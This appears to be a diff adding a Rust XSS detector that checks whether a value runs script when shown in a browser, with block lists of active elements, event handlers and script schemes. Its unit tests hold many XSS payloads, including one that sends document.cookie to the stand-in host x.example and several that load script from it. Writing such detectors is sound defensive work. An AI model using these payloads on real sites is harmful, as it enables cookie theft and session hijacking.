@@ -1,0 +1,775 @@
+//! Whether a value runs script in a browser that shows it.
+//!
+//! A value is shown in one of four places: between tags, inside an attribute, inside a
+//! script's text, or as an address. To run, it must open an element that runs or loads
+//! something, add an event handler, close the text and call something, or be an address
+//! with a script scheme. Markup as such is no attack: `<b>` and `<a href="https://…">`
+//! pass, and so do `a<b and c>d` and `<3`.
+//!
+//! Sources: WHATWG HTML standard, sections "Tokenization" and "Event handlers"; URL
+//! standard for the white space that browsers drop from a scheme.
+
+use std::ops::Range;
+
+/// The first part that reads as script.
+pub(super) fn find(text: &[u8]) -> Option<Range<usize>> {
+    tags(text)
+        .or_else(|| handlers(text))
+        .or_else(|| script_addresses(text))
+        .or_else(|| calls(text))
+        .or_else(|| {
+            let binding = memchr::memmem::find(text, b"-moz-binding")?;
+            Some(binding..binding + b"-moz-binding".len())
+        })
+}
+
+/// Script needs one of these.
+pub(super) fn may_be_in(text: &[u8]) -> bool {
+    text.iter().any(|byte| matches!(byte, b'<' | b'(' | b'`' | b'=' | b':' | b'['))
+}
+
+/// Elements that run or load something by standing there.
+const ACTIVE_ELEMENTS: &[&[u8]] = &[
+    b"script",
+    b"iframe",
+    b"frame",
+    b"frameset",
+    b"object",
+    b"embed",
+    b"applet",
+    b"base",
+    b"meta",
+    b"link",
+    b"xss",
+    b"import",
+    b"isindex",
+    b"bgsound",
+    b"layer",
+    b"ilayer",
+    b"include",
+];
+
+/// Attributes that hold an address a browser opens.
+const ADDRESS_ATTRIBUTES: &[&[u8]] = &[
+    b"href",
+    b"src",
+    b"action",
+    b"formaction",
+    b"data",
+    b"xlink:href",
+    b"background",
+    b"poster",
+    b"from",
+    b"to",
+    b"values",
+    b"code",
+    b"dynsrc",
+    b"lowsrc",
+    b"style",
+];
+
+/// Bytes of a tag looked at for attributes: enough for any that is meant to be read.
+const LONGEST_TAG: usize = 2_048;
+
+/// Tags of which the attributes are read; a text with more is judged by these.
+const MOST_TAGS: usize = 64;
+
+fn tags(text: &[u8]) -> Option<Range<usize>> {
+    let mut read = 0;
+    for start in memchr::memchr_iter(b'<', text) {
+        let inside = &text[start + 1..];
+        // Instructions that load markup or style from elsewhere.
+        if inside.starts_with(b"?import") || inside.starts_with(b"?xml-stylesheet") {
+            return Some(start..start + 8);
+        }
+        let closing = inside.first() == Some(&b'/');
+        let name_at = usize::from(closing);
+        let name_length = inside[name_at..]
+            .iter()
+            .take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b':'))
+            .count();
+        let name = &inside[name_at..name_at + name_length];
+        if !name.first().is_some_and(u8::is_ascii_alphabetic) {
+            continue;
+        }
+        let behind = name_at + name_length;
+        let ends = inside
+            .get(behind)
+            .is_none_or(|byte| matches!(byte, b'>' | b'/' | b'<') || byte.is_ascii_whitespace());
+        if closing {
+            // Closing a script that the value does not open means to leave one.
+            if name == b"script" && ends {
+                return Some(start..start + 1 + behind);
+            }
+            continue;
+        }
+        if ends && ACTIVE_ELEMENTS.contains(&local_name(name)) {
+            return Some(start..start + 1 + behind);
+        }
+        read += 1;
+        if read > MOST_TAGS {
+            return None;
+        }
+        let tag = &inside[behind..inside.len().min(behind + LONGEST_TAG)];
+        if let Some(end) = active_attribute(tag) {
+            return Some(start..start + 1 + behind + end);
+        }
+    }
+    None
+}
+
+/// `svg:script` is a script.
+fn local_name(name: &[u8]) -> &[u8] {
+    name.rsplit(|byte| *byte == b':').next().unwrap_or(name)
+}
+
+/// Where an attribute that runs something ends, in the text of a tag behind its name.
+fn active_attribute(tag: &[u8]) -> Option<usize> {
+    let mut at = 0;
+    loop {
+        at += tag[at..]
+            .iter()
+            .take_while(|byte| {
+                byte.is_ascii_whitespace()
+                    || byte.is_ascii_control()
+                    || matches!(byte, b'/' | b'"' | b'\'' | b'`' | b',' | b';')
+            })
+            .count();
+        let name_length = tag[at..]
+            .iter()
+            .take_while(|byte| {
+                !byte.is_ascii_whitespace()
+                    && !matches!(byte, b'/' | b'>' | b'=' | b'"' | b'\'' | b'<' | b'`')
+            })
+            .count();
+        let name = &tag[at..at + name_length];
+        let name_start = at;
+        at += name_length;
+        let equals = at + white_space(&tag[at..]);
+        if tag.get(equals) != Some(&b'=') {
+            match tag.get(at) {
+                None | Some(b'>' | b'<') => return None,
+                Some(_) if name_length == 0 && equals == at => at += 1,
+                Some(_) => {}
+            }
+            continue;
+        }
+        let value_start = equals + 1 + white_space(&tag[equals + 1..]);
+        let (value, after) = attribute_value(&tag[value_start..]);
+        at = value_start + after;
+        let is_handler = is_known_handler(name) || (name.starts_with(b"on") && is_code(value));
+        let runs = is_handler
+            || name == b"srcdoc"
+            || (ADDRESS_ATTRIBUTES.contains(&name) && script_scheme(value, true).is_some())
+            || (name == b"style"
+                && holds_any(value, &[b"expression(", b"-moz-binding", b"behavior:"]));
+        if runs {
+            return Some(at.max(name_start + name_length));
+        }
+    }
+}
+
+/// The value of an attribute, and how far it reaches.
+fn attribute_value(text: &[u8]) -> (&[u8], usize) {
+    if let Some(quote @ (b'"' | b'\'' | b'`')) = text.first() {
+        let end = memchr::memchr(*quote, &text[1..]).map_or(text.len(), |end| end + 1);
+        return (&text[1..end], (end + 1).min(text.len()));
+    }
+    let end = text.iter().position(|byte| byte.is_ascii_whitespace() || *byte == b'>');
+    let end = end.unwrap_or(text.len());
+    (&text[..end], end)
+}
+
+fn white_space(text: &[u8]) -> usize {
+    text.iter().take_while(|byte| byte.is_ascii_whitespace()).count()
+}
+
+fn holds_any(text: &[u8], parts: &[&[u8]]) -> bool {
+    parts.iter().any(|part| memchr::memmem::find(text, part).is_some())
+}
+
+/// Beginnings of event handlers' names: HTML's, SVG's and those that browsers add. Sorted.
+const HANDLERS: &[&[u8]] = &[
+    b"onabort",
+    b"onactivate",
+    b"onafter",
+    b"onanimation",
+    b"onauxclick",
+    b"onbefore",
+    b"onbegin",
+    b"onblur",
+    b"onbounce",
+    b"oncanplay",
+    b"onchange",
+    b"onclick",
+    b"onclose",
+    b"oncontext",
+    b"oncopy",
+    b"oncuechange",
+    b"oncut",
+    b"ondblclick",
+    b"ondeactivate",
+    b"ondrag",
+    b"ondrop",
+    b"ondurationchange",
+    b"onend",
+    b"onerror",
+    b"onfinish",
+    b"onfocus",
+    b"onformdata",
+    b"onfullscreen",
+    b"ongesture",
+    b"ongotpointer",
+    b"onhashchange",
+    b"onhelp",
+    b"oninput",
+    b"oninvalid",
+    b"onkey",
+    b"onload",
+    b"onlostpointer",
+    b"onmessage",
+    b"onmouse",
+    b"onmove",
+    b"onpage",
+    b"onpaste",
+    b"onpause",
+    b"onplay",
+    b"onpointer",
+    b"onpopstate",
+    b"onprogress",
+    b"onpropertychange",
+    b"onratechange",
+    b"onreadystate",
+    b"onrepeat",
+    b"onreset",
+    b"onresize",
+    b"onscroll",
+    b"onsearch",
+    b"onseek",
+    b"onselect",
+    b"onshow",
+    b"onstart",
+    b"onstorage",
+    b"onsubmit",
+    b"onsuspend",
+    b"ontimeupdate",
+    b"ontoggle",
+    b"ontouch",
+    b"ontransition",
+    b"onunhandled",
+    b"onunload",
+    b"onvolumechange",
+    b"onwaiting",
+    b"onwebkit",
+    b"onwheel",
+];
+
+fn is_known_handler(name: &[u8]) -> bool {
+    match HANDLERS.binary_search(&name) {
+        Ok(_) => true,
+        // Only the entry before the place can be a beginning of the name.
+        Err(place) => place > 0 && name.starts_with(HANDLERS[place - 1]),
+    }
+}
+
+/// Whether the value of an attribute does something as code.
+fn is_code(value: &[u8]) -> bool {
+    value.iter().any(|byte| matches!(byte, b'(' | b'`' | b'=' | b'['))
+        || holds_any(value, &[b"javascript:"])
+}
+
+/// ` onmouseover=alert(1)`: a handler added to the element of the attribute that the value
+/// stands in.
+fn handlers(text: &[u8]) -> Option<Range<usize>> {
+    for equals in memchr::memchr_iter(b'=', text) {
+        let name_end = text[..equals].trim_ascii_end().len();
+        let name_length = text[..name_end]
+            .iter()
+            .rev()
+            .take(32)
+            .take_while(|byte| byte.is_ascii_alphanumeric())
+            .count();
+        let start = name_end - name_length;
+        let name = &text[start..name_end];
+        if !is_known_handler(name) {
+            continue;
+        }
+        let separated = start.checked_sub(1).is_none_or(|before| {
+            let before = text[before];
+            before.is_ascii_whitespace() || matches!(before, b'"' | b'\'' | b'`' | b'/' | b';')
+        });
+        let value = &text[equals + 1..];
+        if separated && is_code(&value[..value.len().min(256)]) {
+            return Some(start..equals + 1);
+        }
+    }
+    None
+}
+
+/// An address with a script scheme, at the start or behind what may precede one.
+fn script_addresses(text: &[u8]) -> Option<Range<usize>> {
+    for colon in memchr::memchr_iter(b':', text).take(MOST_TAGS) {
+        // Browsers drop tabs and line breaks from inside a scheme; views may have made
+        // them spaces.
+        let mut start = colon;
+        let mut letters = 0;
+        while letters < b"javascript".len() {
+            match start.checked_sub(1).map(|before| text[before]) {
+                Some(byte) if byte.is_ascii_lowercase() => letters += 1,
+                Some(b'\t' | b'\n' | b'\r' | b' ' | 1..=8) => {}
+                _ => break,
+            }
+            start -= 1;
+        }
+        let separated = start.checked_sub(1).is_none_or(|before| {
+            let before = text[before];
+            !(before.is_ascii_alphanumeric() || matches!(before, b'_' | b'-' | b'.'))
+        });
+        if separated && let Some(length) = script_scheme(&text[start..], false) {
+            return Some(start..start + length);
+        }
+    }
+    for start in memchr::memmem::find_iter(text, b"data:text/html") {
+        let behind = &text[start + b"data:text/html".len()..];
+        if matches!(behind.first(), Some(b',' | b';')) {
+            return Some(start..start + b"data:text/html".len());
+        }
+    }
+    None
+}
+
+/// The length of a script scheme that an address begins with and that goes on to do
+/// something. `in_attribute` says that an address is expected, so that less proof will do.
+fn script_scheme(address: &[u8], in_attribute: bool) -> Option<usize> {
+    let dropped = |byte: &u8| byte.is_ascii_control() || *byte == b' ';
+    let leading = address.iter().take_while(|byte| dropped(byte)).count();
+    let mut at = leading;
+    let mut scheme = [0_u8; 10];
+    let mut letters = 0;
+    while let Some(&byte) =
+        address.get(at).filter(|_| letters < scheme.len() || address[at] == b':')
+    {
+        at += 1;
+        if byte == b':' {
+            break;
+        }
+        if byte.is_ascii_lowercase() {
+            scheme[letters] = byte;
+            letters += 1;
+        } else if !dropped(&byte) {
+            return None;
+        }
+    }
+    if in_attribute && address[leading..].starts_with(b"data:text/html") {
+        return Some(leading + b"data:text/html".len());
+    }
+    if !matches!(&scheme[..letters], b"javascript" | b"vbscript" | b"livescript" | b"mocha") {
+        return None;
+    }
+    let code = &address[at..address.len().min(at + 256)];
+    does_something(code).then_some(at)
+}
+
+/// Whether code behind `javascript:` does more than pages' own placeholders do, and is
+/// code at all: a call, an assignment or a comment, not a sentence.
+fn does_something(code: &[u8]) -> bool {
+    const PLACEHOLDERS: &[&[u8]] = &[
+        b"void(0)",
+        b"void(null)",
+        b"void 0",
+        b"history.back()",
+        b"history.go(-1)",
+        b"window.print()",
+        b"print()",
+        b"location.reload()",
+        b"self.close()",
+        b"window.close()",
+        b"false",
+        b"//",
+    ];
+    let code = code.trim_ascii();
+    let bare = code.trim_ascii_end().strip_suffix(b";").unwrap_or(code);
+    if bare.is_empty() || PLACEHOLDERS.contains(&bare) {
+        return false;
+    }
+    if code.starts_with(b"//") || code.starts_with(b"/*") || code.starts_with(b"\"") {
+        return true;
+    }
+    let touches = |at: usize| {
+        at.checked_sub(1).is_some_and(|before| {
+            let byte = code[before];
+            byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'$' | b')' | b']' | b'/')
+        })
+    };
+    code.iter().enumerate().any(|(at, byte)| match byte {
+        b'(' | b'`' | b'[' => at == 0 || touches(at),
+        b'=' | b'\\' | b'%' => at > 0,
+        _ => false,
+    })
+}
+
+/// Functions that attacks call to show that they run, with what they usually reach for.
+const CALLS: &[&[u8]] = &[
+    b"alert",
+    b"confirm",
+    b"prompt",
+    b"eval",
+    b"print",
+    b"fetch",
+    b"settimeout",
+    b"setinterval",
+    b"importscripts",
+    b"import",
+    b"atob",
+    b"string.fromcharcode",
+    b"document.write",
+    b"document.writeln",
+    b"constructor",
+    b"function",
+    b"xmlhttprequest",
+    b"expression",
+    b"execscript",
+    b"msgbox",
+    b"$.getscript",
+    b"console.log",
+    b"alert.call",
+    b"alert.apply",
+    b"prompt.call",
+    b"confirm.call",
+    b"eval.call",
+    b"map.call",
+    b"sort.call",
+];
+
+/// Objects whose members attacks read or set.
+const OBJECTS: &[&[u8]] = &[
+    b"document.cookie",
+    b"document.domain",
+    b"document.location",
+    b"window.location",
+    b"window.name",
+    b"location.href",
+    b"location.hash",
+    b"localstorage.",
+    b"sessionstorage.",
+    b".innerhtml",
+    b".outerhtml",
+    b"document.body",
+    b"document.documentelement",
+    b"top.location",
+    b"parent.location",
+    b"self.location",
+    b"constructor.constructor",
+];
+
+/// Script without markup: the value closes a script's text, or is itself the script.
+fn calls(text: &[u8]) -> Option<Range<usize>> {
+    for open in text.iter().enumerate().filter(|(_, byte)| matches!(byte, b'(' | b'`' | b'[')) {
+        let (at, byte) = open;
+        let before = text[..at].trim_ascii_end();
+        if *byte == b'[' {
+            if let Some(start) = member_by_name(text, at) {
+                return Some(start..at + 1);
+            }
+            continue;
+        }
+        // `(alert)(1)`
+        let (before, wrapped) = match before.strip_suffix(b")") {
+            Some(inside) => (inside, true),
+            None => (before, false),
+        };
+        if before.len() + usize::from(wrapped) != at {
+            continue;
+        }
+        let Some(name) = CALLS.iter().find(|name| before.ends_with(name)) else {
+            if let Some(start) = call_between_quotes(before, &text[at + 1..]) {
+                return Some(start..at + 1);
+            }
+            continue;
+        };
+        let start = before.len() - name.len();
+        let whole = start.checked_sub(1).is_none_or(|previous| {
+            !(text[previous].is_ascii_alphanumeric() || text[previous] == b'_')
+        });
+        let arguments = &text[at + 1..];
+        let alone = start == 0 && arguments == b")";
+        let empty = !alone && matches!(arguments.first(), None | Some(b')' | b'`'));
+        if whole && leaves_text(&text[..start], empty) {
+            return Some(start..at + 1);
+        }
+    }
+    for object in OBJECTS {
+        if let Some(start) = memchr::memmem::find(text, object)
+            && leaves_text(&text[..start], true)
+        {
+            return Some(start..start + object.len());
+        }
+    }
+    None
+}
+
+/// `"+anything(1)+"`: whatever is called, the value leaves a text, calls it and returns.
+fn call_between_quotes(before: &[u8], arguments: &[u8]) -> Option<usize> {
+    let name = before.iter().rev().take(64).take_while(|byte| byte.is_ascii_alphanumeric()).count();
+    let start = before.len() - name;
+    let [.., quote @ (b'"' | b'\''), b'+' | b'-' | b'*'] = &before[..start] else { return None };
+    let close = arguments.iter().take(256).position(|byte| *byte == b')')?;
+    let returns = matches!(
+        arguments.get(close + 1..),
+        Some([b'+' | b'-' | b'*', end, ..]) if end == quote
+    );
+    (name > 0 && close > 0 && returns).then_some(start)
+}
+
+/// Whether what stands before a call makes it run: nothing, or the end of a text and an
+/// operator. A call without arguments is often named in prose, and needs more.
+fn leaves_text(before: &[u8], needs_more: bool) -> bool {
+    let operators = |byte: &u8| {
+        byte.is_ascii_whitespace()
+            || matches!(
+                byte,
+                b';' | b'+'
+                    | b'-'
+                    | b'*'
+                    | b'/'
+                    | b'^'
+                    | b'|'
+                    | b'&'
+                    | b'%'
+                    | b','
+                    | b'('
+                    | b'['
+                    | b'{'
+                    | b'}'
+                    | b')'
+                    | b']'
+                    | b'='
+                    | b'!'
+                    | b'~'
+                    | b'>'
+                    | b'<'
+                    | b'?'
+                    | b':'
+                    | b'\\'
+                    | b'$'
+                    | b'#'
+            )
+    };
+    let rest = before.len() - before.iter().rev().take_while(|byte| operators(byte)).count();
+    let operator = &before[rest..];
+    let last = rest.checked_sub(1).map(|at| before[at]);
+    match last {
+        // From the start of the value, or inside `{{…}}` and `${…}`.
+        None => !needs_more || operator.iter().any(|byte| matches!(byte, b'{' | b';' | b'(')),
+        Some(b'"' | b'\'' | b'`') => operator.iter().any(|byte| !byte.is_ascii_whitespace()),
+        _ => {
+            operator.ends_with(b"{{")
+                || operator.ends_with(b"${")
+                || (!needs_more && matches!(operator.first(), Some(b';' | b'}')))
+        }
+    }
+}
+
+/// `top["al"+"ert"]`, `window['x']`, `[]["filter"]`, `(![]+[])`: names put together so
+/// that no filter reads them.
+fn member_by_name(text: &[u8], at: usize) -> Option<usize> {
+    const GLOBALS: &[&[u8]] =
+        &[b"top", b"self", b"window", b"parent", b"frames", b"globalthis", b"this", b"document"];
+    let next = *text.get(at + 1)?;
+    let before = &text[..at];
+    if matches!(next, b'"' | b'\'' | b'`' | b'/' | b'(' | b'\\')
+        && let Some(name) = GLOBALS.iter().find(|name| before.ends_with(name))
+    {
+        let start = at - name.len();
+        let whole = start.checked_sub(1).is_none_or(|previous| {
+            !(text[previous].is_ascii_alphanumeric() || text[previous] == b'_')
+        });
+        return whole.then_some(start);
+    }
+    if before.ends_with(b"[]") && matches!(next, b'"' | b'\'' | b'`' | b'(') {
+        return Some(at - 2);
+    }
+    let inside = b"[]+[]";
+    (before.ends_with(b"(!") && text[at..].starts_with(inside)).then(|| at - 2)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[track_caller]
+    fn check(expected: bool, texts: &[&str]) {
+        for text in texts {
+            let found = find(text.as_bytes());
+            let part = found.clone().map(|range| &text[range]);
+            assert_eq!(found.is_some(), expected, "{text} ({part:?})");
+            if expected {
+                assert!(may_be_in(text.as_bytes()), "{text}");
+            }
+        }
+    }
+
+    #[test]
+    fn elements_that_run_are_found() {
+        check(
+            true,
+            &[
+                "<script>alert(1)</script>",
+                "\"><script src=//x.example/a.js>",
+                "<script/x>alert`1`</script>",
+                "<svg:script>",
+                "<iframe src=x>",
+                "<object data=x>",
+                "<embed src=x>",
+                "<meta http-equiv=refresh content=0>",
+                "<base href=//x.example>",
+                "</script>x",
+                "<scr<script>ipt>",
+                "<link rel=stylesheet href=//x>",
+                "<?import namespace=t>",
+                "<esi:include src=//x>",
+                "<style>body{-moz-binding:url(x)}</style>",
+            ],
+        );
+    }
+
+    #[test]
+    fn attributes_that_run_are_found() {
+        check(
+            true,
+            &[
+                "<img src=x onerror=alert(1)>",
+                "<img/src/onerror=alert(1)>",
+                "<svg/onload=alert(1)>",
+                "<svg onload = 'alert(1)'",
+                "<body onload=x()>",
+                "<x onclick=alert(1)>",
+                "<details open ontoggle=alert(1)>",
+                "<a href=\"javascript:alert(1)\">x</a>",
+                "<a href=java\tscript:alert(1)>x</a>",
+                "<form><button formaction=javascript:alert(1)>",
+                "<a href=data:text/html;base64,xxxx>",
+                "<div style=\"width:expression(alert(1))\">",
+                "<img \"a\" onmouseover=\"x\">",
+                "<iframe srcdoc='x'>",
+                "<p srcdoc=x>",
+                "<math><a xlink:href=javascript:x()>",
+            ],
+        );
+    }
+
+    #[test]
+    fn handlers_behind_a_quote_are_found() {
+        check(
+            true,
+            &[
+                "\" onmouseover=alert(1) x=\"",
+                "' onfocus=alert(1) autofocus='",
+                "x\"onclick=\"alert(1)",
+                "\" autofocus onfocus = prompt`1`",
+                "\"/onload=location=name",
+                "onerror=alert(1)",
+                "x onfocus=alert(1) autofocus",
+                " onmouseover=\"x=1\">",
+            ],
+        );
+    }
+
+    #[test]
+    fn script_addresses_are_found() {
+        check(
+            true,
+            &[
+                "javascript:alert(1)",
+                "  javascript:alert(document.cookie)//",
+                "java\nscript:alert(1)",
+                "jav ascript:alert(1)",
+                "vbscript:msgbox(1)",
+                "javascript://%0aalert(1)",
+                "javascript:/*x*/eval(name)",
+                "x=javascript:location=name",
+                "data:text/html,<b>",
+                "data:text/html;base64,aaaa",
+            ],
+        );
+    }
+
+    #[test]
+    fn calls_that_leave_a_text_are_found() {
+        check(
+            true,
+            &[
+                "';alert(1)//",
+                "\"-alert(1)-\"",
+                "'+alert(document.domain)+'",
+                "\\';alert(1)//",
+                "\"};alert(1);{\"",
+                "alert(1)",
+                "(alert)(1)",
+                "alert`1`",
+                "${alert(1)}",
+                "{{constructor.constructor('alert(1)')()}}",
+                "';document.location='//x.example/'+document.cookie//",
+                "top['al'+'ert'](1)",
+                "self[\"ale\"+\"rt\"]",
+                "[][\"filter\"][\"constructor\"]",
+                "(![]+[])[+[]]",
+                "eval(atob('eA=='))",
+                "1;alert(1)//2",
+                "prompt()",
+                "alert.apply(null,[1])",
+                "\"+anything(0x1)+\"",
+            ],
+        );
+    }
+
+    #[test]
+    fn honest_markup_and_prose_are_left_alone() {
+        check(
+            false,
+            &[
+                "a<b and c>d",
+                "<3",
+                "I <3 you",
+                "x < y && y > z",
+                "<b>bold</b> and <i>italic</i>",
+                "<p class=\"a\">text</p>",
+                "<a href=\"https://example.com/?a=1\">link</a>",
+                "<img src=\"/a.png\" alt=\"on sale\">",
+                "<div once=1 online=yes>",
+                "</p><br/>",
+                "learn javascript: the good parts (2008)",
+                "javascript:void(0)",
+                "javascript:;",
+                "javascript: history.back()",
+                "how does alert() work",
+                "use eval() with care (or not)",
+                "onload=recaptchaCallback",
+                "callback=onLoad",
+                "the function (see below)",
+                "fetch (the dog)",
+                "redirect_uri=https://a.example/cb",
+                "urn:a:b",
+                "document.pdf",
+                "data:image/png;base64,aaaa",
+                "{\"onclick\":\"a\"}",
+                "list[\"a\"]",
+                "a[0](b)",
+                "",
+            ],
+        );
+    }
+
+    #[test]
+    fn tables_are_sorted_for_the_search() {
+        assert!(HANDLERS.is_sorted());
+    }
+
+    #[test]
+    fn the_cost_stays_linear() {
+        for piece in ["<", "<a ", "<a b=", "onload=", "javascript:", "alert(", "\"", "[", ":", "\t"]
+        {
+            find(piece.repeat(20_000 / piece.len()).as_bytes());
+        }
+    }
+}
